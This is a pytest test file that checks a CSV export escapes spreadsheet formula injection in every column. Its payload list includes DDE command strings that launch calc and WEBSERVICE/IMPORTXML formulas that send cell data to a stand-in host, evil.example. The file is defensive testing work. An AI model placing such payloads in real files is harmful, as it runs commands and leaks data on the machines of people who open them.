"""T54: a text in an event is run as a formula by whoever opens the table in a spreadsheet.

The table is read back as a spreadsheet reads it: of every payload, in every column, no cell is left that one would run.
"""

import csv
import io

import pytest

from disclosures.table_csv import COLUMNS, MARK, format_csv, make
from disclosures.visible import visible
from tests.disclosures.given import given
from tests.threats.test_t55_markup_injection import registered

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")', "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-cmd|' /C calc'!A0", "--1", "@SUM(1+1)",
    "@cmd", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   @SUM(1)", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)",
    "\u22121+1", 'x","=1+1', "x\r\n=1+1", 'x\n"=1+1"', '";=1+1;"', "'=1+1\",\"=2", "-1,5", "=\u202e1+1", "-", "=", "+", "@",
    "-1e5", "-0x10",
]  # fmt: skip
NUMBERS = ["-1.5", "-0.3", "0", "12", "-7", "1.25"]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula (OWASP's list, wide forms, blanks in front)."""
    bare = cell.lstrip(" \u00a0")
    plain = bare.removeprefix("-").replace(".", "", 1)
    return bare[:1] in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212") and not (
        bare[:1] == "-" and plain.isascii() and plain.isdigit()
    )


def reopened(raw: bytes) -> list[list[str]]:
    """The cells, as a reader of RFC 4180 takes them."""
    return list(csv.reader(io.StringIO(raw.decode().removeprefix(MARK), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_attack_no_cell_is_a_formula(payload: str) -> None:
    head, row = reopened(format_csv([dict.fromkeys(COLUMNS[:-1], payload)]))
    assert len(row) == len(head) == len(COLUMNS), "it broke out of its cell"
    assert not [cell for cell in row if runs(cell)]
    by = dict(zip(head, row, strict=True))
    marked = [name for name in COLUMNS[:-1] if by[name] == f"'{visible(payload)}"]
    assert by["as_text"] == " ".join(marked), "what was marked is said"


@pytest.mark.parametrize("payload", PAYLOADS[::6])
def test_attack_in_a_name_that_an_event_carries(payload: str) -> None:
    what = given()
    shown = registered(payload)
    raw = make(type(what)(what.files, shown, what.digest, what.verified, what.name))[""]
    rows = reopened(raw)
    assert {len(row) for row in rows} == {len(COLUMNS)}
    assert not [cell for row in rows for cell in row if runs(cell)]


def test_attack_the_lines_of_a_real_bundle_are_none_either() -> None:
    assert not [cell for row in reopened(make(given())[""]) for cell in row if runs(cell)]


@pytest.mark.parametrize("number", NUMBERS)
def test_honest_numbers_stay_numbers(number: str) -> None:
    head, row = reopened(format_csv([{"says": number, "index": "4"}]))
    by = dict(zip(head, row, strict=True))
    assert (by["says"], by["as_text"]) == (number, "")


def test_honest_text_stands_as_it_is() -> None:
    head, row = reopened(format_csv([{"says": 'a-b = c @ d, "quoted" ✓ 日本'}]))
    assert dict(zip(head, row, strict=True))["says"] == 'a-b = c @ d, "quoted" ✓ 日本'
